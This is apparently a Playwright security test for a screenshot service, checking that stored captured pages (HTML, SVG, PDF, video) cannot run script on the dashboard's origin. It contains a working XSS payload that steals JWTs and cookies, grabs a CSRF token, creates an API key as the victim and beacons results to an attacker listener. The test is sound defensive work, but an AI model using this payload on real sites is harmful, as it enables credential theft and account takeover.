import http from 'node:http';
import { expect } from 'chai';
import sharp from 'sharp';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { loadConfig } from '../../core/config/load-config.js';
import { launchChromium } from '../../drivers/playwright/launch-browser.js';
import { json, PASSWORD, signup, verifyEmail } from '../support/auth-helpers.js';
import { listenOnLoopback } from '../support/loopback-server.js';
import { call, startTestApi, type TestApi } from '../support/test-api.js';
import { until } from '../support/wait-until.js';

/** The name the captured page gives the API key it tries to create as the viewer. */
const STOLEN_KEY_NAME = 'made by a captured page';

/**
 * What a hostile site puts in the page the service captures: a script that reports to its author, takes
 * whatever credential this origin keeps where script can read it (localStorage, document.cookie, the CSRF
 * proof GET /auth/session answers same-origin script) and creates an API key as the viewer with it.
 */
function attackScript(beacon: string): string {
  return `(async () => {
  const report = (what) => { new Image().src = '${beacon}/hit/' + encodeURIComponent(what); };
  report('ran');
  const headers = { 'Content-Type': 'application/json' };
  try {
    const jwt = Object.values(localStorage).find((v) => /^[\\w-]+\\.[\\w-]+\\.[\\w-]+$/.test(v));
    if (jwt) { headers.Authorization = 'Bearer ' + jwt; report('token-from-localStorage'); }
  } catch (e) { report('no-localStorage'); }
  try { if (document.cookie) report('cookie:' + document.cookie); } catch (e) { report('no-cookie'); }
  try {
    const session = await (await fetch('/api/v1/auth/session', { credentials: 'include' })).json();
    if (session.data && session.data.csrf_token) headers['X-CSRF-Token'] = session.data.csrf_token;
  } catch (e) { report('no-session'); }
  const res = await fetch('/api/v1/key/create', { method: 'POST', credentials: 'include', headers, body: JSON.stringify({ name: '${STOLEN_KEY_NAME}' }) });
  report('key-create:' + res.status);
})();`;
}

const hostileHtml = (beacon: string): string => `<!doctype html><title>captured</title><p>A captured page</p><script>${attackScript(beacon)}</script>`;
const hostileSvg = (beacon: string): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20"><rect width="20" height="20"/><script><![CDATA[${attackScript(beacon)}]]></script></svg>`;

/**
 * Issue #14 item 3: a captured page's HTML was answered as text/html on the dashboard's origin, so opening
 * its link ran the page's script there, where it read the dashboard's token from localStorage and made
 * API keys as the viewer. Here a logged-in dashboard user opens every output link of a hostile record in
 * the same Chromium context, and a listener of the attacker's counts what the page's script got out.
 */
describe("stored outputs never run on the service's origin (a hostile captured page, in Chromium)", function () {
  this.timeout(120_000);
  let api: TestApi;
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  let base: string;
  let key: string;
  let companyId: number;
  let id: number;
  let batchId: number;
  let keysBefore: number;
  /** Every report the attacker's listener received, in order. */
  const reports: string[] = [];
  let beacon: { origin: string; stop(): Promise<void> };
  /** How long a page's script takes here to report back, measured on the control page (with margin). */
  let settleMs = 0;

  const keysOf = async (): Promise<number> => Number((await api.database.db('api_keys').where({ company_id: companyId }).count('* as n'))[0]?.n);
  const stolenKeys = async (): Promise<number> => Number((await api.database.db('api_keys').where({ name: STOLEN_KEY_NAME }).count('* as n'))[0]?.n);
  const link = (path: string): string => `${base}/api/v1${path}${path.includes('?') ? '&' : '?'}key=${encodeURIComponent(key)}`;

  async function put(kind: string, shot: number | null, name: string, contentType: string, data: Buffer): Promise<void> {
    const storageKey = `screenshots/${id}/${name}`;
    await api.parts.objects.put(storageKey, data, { contentType, size: data.length });
    await api.database.db('screenshot_files').insert({ company_id: companyId, screenshot_id: id, kind, shot, storage_key: storageKey, content_type: contentType, size_bytes: data.length });
  }

  /**
   * Opens a link the way a user does (typed, clicked, or from an email) in the logged-in context, and gives
   * a script the page might run the time the control page's took to report, three times over.
   */
  async function open(url: string, want: { download: boolean } = { download: false }): Promise<{ downloaded: string | null }> {
    const download = want.download ? page.waitForEvent('download', { timeout: 5_000 }).catch(() => null) : null;
    await page.goto(url).catch(() => null); // a download aborts the navigation
    await new Promise((resolve) => setTimeout(resolve, settleMs));
    return { downloaded: (await download)?.suggestedFilename() ?? null };
  }

  async function expectNothingLeaked(what: string): Promise<void> {
    expect(reports, `${what}: the captured page's script reported to its author`).to.deep.equal([]);
    expect(await stolenKeys(), `${what}: an API key was made as the viewer`).to.equal(0);
    expect(await keysOf()).to.equal(keysBefore);
  }

  before(async () => {
    const attacker = http.createServer((req, res) => {
      if (req.url?.startsWith('/hit/')) reports.push(decodeURIComponent(req.url.slice('/hit/'.length)));
      // The control: the same page from a server that adds no protection, to prove a running script is seen.
      res.setHeader('Content-Type', req.url === '/control' ? 'text/html' : 'image/gif');
      res.end(req.url === '/control' ? hostileHtml(beacon.origin) : '');
    });
    beacon = await listenOnLoopback(attacker);
    api = await startTestApi('pglite', { SHOTFARM_SIGNUP_CREDITS: '100' });
    base = api.plane.url;
    const user = await signup(api);
    await verifyEmail(api, user.user.email);
    key = user.api_key.key;
    companyId = user.user.company.id;

    const created = await call(api.url, '/screenshot/create?url=hostile.test/&html=1&pdf=1&video=1', { key });
    expect(created.status, JSON.stringify(created.body)).to.equal(200);
    id = Number(created.body.data[0].id);
    // Shot 1 is an SVG with a script (the stored type decides nothing: the headers must hold for any type);
    // the PDF and the video hold HTML, which nosniff keeps from ever being read as HTML.
    await put('image', 1, 'shot-1.svg', 'image/svg+xml', Buffer.from(hostileSvg(beacon.origin)));
    await put(
      'image',
      2,
      'shot-2.png',
      'image/png',
      await sharp({ create: { width: 4, height: 4, channels: 3, background: '#888' } })
        .png()
        .toBuffer(),
    );
    await put('html', null, 'page.html', 'text/html; charset=utf-8', Buffer.from(hostileHtml(beacon.origin)));
    await put('pdf', null, 'page.pdf', 'application/pdf', Buffer.from(hostileHtml(beacon.origin)));
    await put('video', null, 'video.mp4', 'video/mp4', Buffer.from(hostileHtml(beacon.origin)));
    await api.database.db('screenshots').where({ id }).update({ status: 'finished', finished_at: api.database.db.fn.now() });
    const batch = await call(api.url, '/batch/create', { ...json({ urls: ['hostile.test/a'] }), key });
    expect(batch.status, JSON.stringify(batch.body)).to.equal(200);
    batchId = Number(batch.body.data[0].id);
    keysBefore = await keysOf();

    browser = await launchChromium(loadConfig({}).agent.chromiumPath);
    context = await browser.newContext();
    page = await context.newPage();
    page.setDefaultTimeout(15_000);
    // Logged in to the dashboard, as the user who then opens the links.
    await page.goto(`${base}/#/login`);
    await page.getByLabel('Email', { exact: true }).fill(user.user.email);
    await page.getByLabel('Password', { exact: true }).fill(PASSWORD);
    await page.getByRole('button', { name: 'Log in' }).click();
    await page.getByRole('heading', { level: 1, name: 'Overview', exact: true }).waitFor();
  });
  after(async () => {
    await browser?.close();
    await api?.stop();
    await beacon?.stop();
  });

  it('control: the same page served without protection runs its script, and the listener sees it', async () => {
    const started = Date.now();
    await page.goto(`${beacon.origin}/control`);
    await until("the control page's report", async () => reports.some((r) => r.startsWith('key-create:')), 10_000);
    settleMs = Math.max(1_000, 3 * (Date.now() - started));
    expect(reports[0]).to.equal('ran');
    reports.length = 0;
  });

  it('the logged-in dashboard keeps no credential where a script of its origin could read it', async () => {
    await page.goto(`${base}/#/`);
    await page.getByRole('heading', { level: 1, name: 'Overview', exact: true }).waitFor();
    const readable = await page.evaluate(() => ({ storage: JSON.stringify({ ...localStorage, ...sessionStorage }), cookie: document.cookie }));
    expect(readable.storage).to.not.match(/[\w-]{10,}\.[\w-]{10,}\.[\w-]{10,}/); // no JWT
    expect(readable.cookie).to.equal('');
    // The session is there all the same: in an HttpOnly cookie the browser sends to the API only.
    const cookies = await context.cookies(`${base}/api/v1/`);
    expect(cookies.map((c) => [c.name, c.httpOnly, c.sameSite, c.path])).to.deep.equal([['shotfarm_session', true, 'Strict', '/api/v1']]);
  });

  it('opening the HTML link downloads it: the captured page does not run, and gets nothing', async () => {
    const { downloaded } = await open(link(`/screenshot/html?id=${id}`), { download: true });
    await expectNothingLeaked('HTML link');
    expect(downloaded).to.equal(`screenshot-${id}.html`);
  });

  it('even shown inline (a browser or proxy that drops the attachment), the sandbox keeps it inert and originless', async () => {
    const url = link(`/screenshot/html?id=${id}`);
    await page.route(url, async (route) => {
      const response = await route.fetch();
      const headers = { ...response.headers() };
      delete headers['content-disposition'];
      await route.fulfill({ response, headers });
    });
    try {
      await open(url);
      expect(await page.locator('p').innerText()).to.equal('A captured page'); // it is shown
      await expectNothingLeaked('HTML shown inline');
      // The page's document has an opaque origin: this origin's storage is not its storage.
      expect(await page.evaluate(() => window.origin)).to.equal('null');
    } finally {
      await page.unroute(url);
    }
  });

  it('view=text shows the HTML as plain text: its source is on screen, nothing of it runs', async () => {
    await open(link(`/screenshot/html?id=${id}&view=text`));
    expect(await page.evaluate(() => document.contentType)).to.equal('text/plain');
    expect(await page.evaluate(() => document.body.innerText)).to.include(`<script>(async () => {`);
    await expectNothingLeaked('HTML as text');
  });

  it('an SVG image opened from its thumbnail link shows, but its script does not run', async () => {
    await open(link(`/screenshot/thumbnail?id=${id}`));
    expect(await page.evaluate(() => document.documentElement.localName)).to.equal('svg');
    await expectNothingLeaked('SVG image');
    expect(await page.evaluate(() => window.origin)).to.equal('null');
  });

  it('the PDF and video links run nothing of what they hold', async () => {
    await open(link(`/screenshot/pdf?id=${id}`));
    await expectNothingLeaked('PDF');
    const { downloaded } = await open(link(`/screenshot/video?id=${id}`), { download: true });
    await expectNothingLeaked('video');
    expect(downloaded).to.equal(`screenshot-${id}.mp4`);
  });

  it('every output route answers the sandbox, nosniff and no Referer; HTML and video as attachments', async () => {
    const routes: [string, { type: RegExp; attachment: string | null }][] = [
      [`/screenshot/html?id=${id}`, { type: /^text\/html/, attachment: `screenshot-${id}.html` }],
      [`/screenshot/html?id=${id}&view=text`, { type: /^text\/plain; charset=utf-8$/, attachment: null }],
      [`/screenshot/pdf?id=${id}`, { type: /^application\/pdf$/, attachment: null }],
      [`/screenshot/video?id=${id}`, { type: /^video\/mp4$/, attachment: `screenshot-${id}.mp4` }],
      [`/screenshot/thumbnail?id=${id}`, { type: /^image\/svg\+xml$/, attachment: null }],
      [`/screenshot/thumbnail?id=${id}&shot=2&width=1&format=webp`, { type: /^image\/webp$/, attachment: null }],
      [`/screenshot/thumbnail?id=${id}&shot=2&filename=a.png`, { type: /^image\/png$/, attachment: 'a.png' }],
      [`/batch/download?id=${batchId}`, { type: /^application\/zip$/, attachment: `batch-${batchId}.zip` }],
    ];
    for (const [path, want] of routes) {
      const res = await fetch(`${api.url}${path}`, { headers: { 'X-API-KEY': key } });
      await res.arrayBuffer();
      expect(res.status, path).to.equal(200);
      const csp = res.headers.get('content-security-policy') ?? '';
      expect(
        csp.split(';').map((d) => d.trim()),
        path,
      ).to.include.members(['sandbox', "default-src 'none'"]);
      expect(csp, path).to.not.match(/allow-scripts|allow-same-origin/);
      expect(res.headers.get('x-content-type-options'), path).to.equal('nosniff');
      expect(res.headers.get('referrer-policy'), path).to.equal('no-referrer');
      expect(res.headers.get('content-type'), path).to.match(want.type);
      const disposition = res.headers.get('content-disposition');
      if (want.attachment === null) expect(disposition, path).to.equal(null);
      else expect(disposition, path).to.match(new RegExp(`^attachment; filename="${want.attachment.replace(/\./g, '\\.')}"`));
    }
    const bad = await call(api.url, `/screenshot/html?id=${id}&view=page`, { key });
    expect(bad.status).to.equal(400);
    expect(bad.body.fields).to.have.property('view');
  });
});
